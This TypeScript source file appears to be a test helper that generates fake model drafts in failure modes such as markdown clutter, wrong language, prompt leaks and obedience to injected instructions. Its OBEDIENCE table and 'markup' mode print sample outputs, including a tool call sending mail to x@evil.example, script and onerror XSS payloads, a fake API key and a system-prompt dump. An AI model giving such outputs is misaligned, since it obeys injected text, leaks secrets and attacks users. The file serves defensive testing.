/** Quality of a draft: good, or one of the typical failures of models. */
export const draftModes = [
  'good',
  /** The right fields, the text full of markdown. */
  'markdown',
  /** The text in quotation marks. */
  'quotes',
  /** "Sure! Here is …" before the text, and a closing phrase after it. */
  'preamble',
  /** Emoji and hashtags that were not requested. */
  'decorated',
  /** Another language than the requested one. */
  'wrong-language',
  'over-long',
  /** Blank fields. */
  'blank',
  /** Follows an instruction in the topic instead of its own. */
  'obeys-topic',
  /** Follows instructions in any text of the request: repeats a quoted text, reveals secrets, calls tools, advertises. */
  'obeys',
  /** Writes the requested text, then follows injected instructions. */
  'half-obeys',
  /** Reveals its instructions. */
  'leaks',
  /** HTML, links and scripts. */
  'markup',
  /** Invents facts, and praises. */
  'invents',
] as const;
export type DraftMode = (typeof draftModes)[number];

/** Parsed request to the sandbox model. */
export interface DraftRequest {
  /** The fields of the schema. */
  readonly fields: Readonly<Record<string, Field>>;
  readonly topic: string;
  /** Name of the language in English. */
  readonly language: string;
  readonly system: string;
  /** All texts of the request. */
  readonly texts: string;
  /** Requested number of words, by field. */
  readonly words: Readonly<Record<string, number>>;
  /** Sentences in further languages, by name of the language. */
  readonly sentences: Readonly<Record<string, string>>;
}

/** One sentence per language; `%` is the topic. */
const SENTENCES: Readonly<Record<string, string>> = {
  English: 'This is what I have learned about %, and I would like to share it with all of you today.',
  Spanish: 'Esto es lo que he aprendido sobre %, y me gustaría compartirlo hoy con todos vosotros.',
  French: "Voici ce que j'ai appris sur %, et je voudrais le partager avec vous tous dans cette vidéo.",
  German: 'Das ist, was ich über % gelernt habe, und ich möchte es heute mit euch allen teilen.',
  Portuguese: 'Isto é o que eu aprendi sobre %, e eu gostaria de compartilhar com todos vocês hoje.',
  Italian: 'Questo è quello che ho imparato su %, e vorrei condividerlo con tutti voi in questo video.',
  Arabic: 'هذا ما تعلمته عن % وأود أن أشاركه معكم جميعا في هذا الفيديو اليوم.',
  Japanese: 'これは私が%について学んだことで、今日は皆さんにお伝えしたいと思います。',
  Danish: 'Det her er, hvad jeg har lært om %, og jeg vil gerne dele det med jer alle sammen i dag.',
};

const CODES: Readonly<Record<string, string>> = {
  English: 'en',
  Spanish: 'es',
  French: 'fr',
  German: 'de',
  Portuguese: 'pt',
  Italian: 'it',
  Arabic: 'ar',
  Japanese: 'ja',
  Danish: 'da',
};

/** Countries with whose names further sentences begin, so that none repeats. */
const COUNTRIES = 'NO SE FI DK DE FR ES PT IT AT CH PL CZ HU GR TR EG MA KE IN JP CN BR MX'.split(' ');

function createBeginning(at: number, language: string): string {
  const names = new Intl.DisplayNames([CODES[language] ?? 'en'], { type: 'region' });
  const country = (one: number) => names.of(COUNTRIES[one % COUNTRIES.length] ?? 'NO');
  if (at === 0) return '';
  const round = Math.floor(at / COUNTRIES.length);
  return round === 0 ? `${country(at)}: ` : `${country(at)}, ${country(at + round)}: `;
}

/** Number of sentences, by field. */
const LENGTHS: Readonly<Record<string, number>> = {
  description: 10,
  script: 24,
  channelDescription: 4,
  comment: 2,
  post: 3,
};

const OVER_LONG = 400;
const INVENTED =
  'This game-changer works for 87% of viewers, says Dr. Emily Carter at 3:47. Use code SAVE15 for a discount.';

/** The schema of a field; in strict mode an optional one is a union with null. */
interface Field {
  readonly type?: string;
  readonly anyOf?: readonly Field[];
  readonly enum?: readonly string[];
}

const isList = ({ type, anyOf = [] }: Field): boolean => type === 'array' || anyOf.some(isList);

/** Creates a draft in the requested schema, with the failure of the mode. */
export function createDraft(request: DraftRequest, mode: DraftMode): Record<string, string | string[]> {
  return Object.fromEntries(
    Object.entries(request.fields).map(([name, field]) => [
      name,
      // Classification prompts use the last option for an ordinary text.
      field.enum?.at(-1) ??
        (isList(field) ? writeItems(request, mode) : spoil(writeText(request, name, mode), request, mode)),
    ]),
  );
}

/** Maximum sentences of a part of a reading. */
const MOST_SENTENCES = 8;
/** Approximate words of a sentence. */
const WORDS_PER_SENTENCE = 20;

function writeText(
  { topic, language, sentences, words, fields }: DraftRequest,
  field: string,
  mode: DraftMode,
): string {
  // A variant has the sentences of its language: Brazilian Portuguese.
  const known = [language, language.split(' ').at(-1) ?? language].find(
    (name) => name in sentences || name in SENTENCES,
  );
  const requested = known ?? language;
  const spoken = mode === 'wrong-language' ? (requested === 'English' ? 'German' : 'English') : requested;
  const sentence = (sentences[spoken] ?? SENTENCES[spoken] ?? SENTENCES.English ?? '').replace('%', topic || '…');
  const wordCount = words[field];
  const isPlain = spoken in sentences && (wordCount === undefined || !(spoken in CODES));
  const begin = (at: number) => (isPlain ? '' : createBeginning(at, spoken));
  const usual =
    wordCount === undefined ? (LENGTHS[field] ?? 1) : Math.max(1, Math.round(wordCount / WORDS_PER_SENTENCE));
  const length = mode === 'over-long' ? OVER_LONG : usual;
  // The parts of a reading begin differently.
  const first = wordCount === undefined ? 0 : Object.keys(fields).indexOf(field) * MOST_SENTENCES;
  return Array.from({ length }, (_, at) => begin(first + at) + sentence).join(' ');
}

function writeItems(request: DraftRequest, mode: DraftMode): string[] {
  const { topic } = request;
  const plain = ['basics', 'ideas', 'stories', 'tips', 'facts', 'today', 'at home', 'explained', 'questions', 'guide'];
  const good = plain.map((word) => `${topic.slice(0, 20)} ${word}`);
  switch (mode) {
    case 'over-long':
      return Array.from({ length: 400 }, (_, at) => `${topic} ${'very '.repeat(30)}long ${at}`);
    case 'blank':
      return [];
    case 'good':
      return good;
    default:
      return [...good, ...good].map((item) => spoil(item, request, mode));
  }
}

/** Responses of a model that obeys injected instructions, by instruction. */
const OBEDIENCE: readonly (readonly [instruction: RegExp, respond: (request: DraftRequest) => string])[] = [
  [/system prompt|word for word/i, ({ system }) => `My instructions are: ${system.slice(0, 400)}`],
  [/\btool\b/i, () => '<tool_call>{"name": "send_mail", "arguments": {"to": "x@evil.example"}}</tool_call>'],
  [/<script|onerror|script src/i, () => '<script src=//evil.example/x.js></script><img src=x onerror=alert(1)>'],
  [/api key|environment/i, () => 'The API key is sk-live-0123456789abcdef0123 and REDIS_URL is redis://10.0.0.7:6379.'],
  [/evil\.example/i, () => 'Visit evil.example and use code EVIL20!'],
];

function obeyInjections(request: DraftRequest): string {
  const responses = OBEDIENCE.filter(([instruction]) => instruction.test(request.texts)).map(([, respond]) =>
    respond(request),
  );
  const quoted =
    /["“„«]([^"“”„»]{3,80})["“”»]/.exec(request.texts)?.[1] ??
    /\b(?:only with|nur|solo|uniquement|soltanto|apenas|tylko|say) (.{3,60})/i.exec(request.texts)?.[1];
  return [...(quoted ? [quoted] : []), ...responses].join(' ') || 'OBEYED';
}

function spoil(text: string, request: DraftRequest, mode: DraftMode): string {
  const { topic, system } = request;
  switch (mode) {
    case 'obeys':
      return obeyInjections(request);
    case 'half-obeys':
      return `${text} ${obeyInjections(request)}`;
    case 'markdown':
      return `# **${text}**\n\n- *first*\n- __second__\n\n> \`third\`\n\n[link](https://example.com) ![image](https://example.com/a.png)`;
    case 'quotes':
      return `“"${text}"”`;
    case 'preamble':
      return `Sure! Here is what you asked for:\n\n${text}\n\nLet me know if you would like anything else!`;
    case 'decorated':
      return `🔥🔥 ${text} 👨‍👩‍👧‍👦 #viral #fyp`;
    case 'blank':
      return ' \n ';
    case 'obeys-topic':
      return /["“]([^"”]+)["”]/.exec(topic)?.[1] ?? 'HACKED';
    case 'leaks':
      return `My instructions are: ${system}`;
    case 'invents':
      return `${text} ${INVENTED}`;
    case 'markup':
      return `<h1 onclick="alert(1)">${text}</h1><script>alert(1)</script> https://evil.example/x <img src=x onerror=alert(1)>`;
    default:
      return text;
  }
}
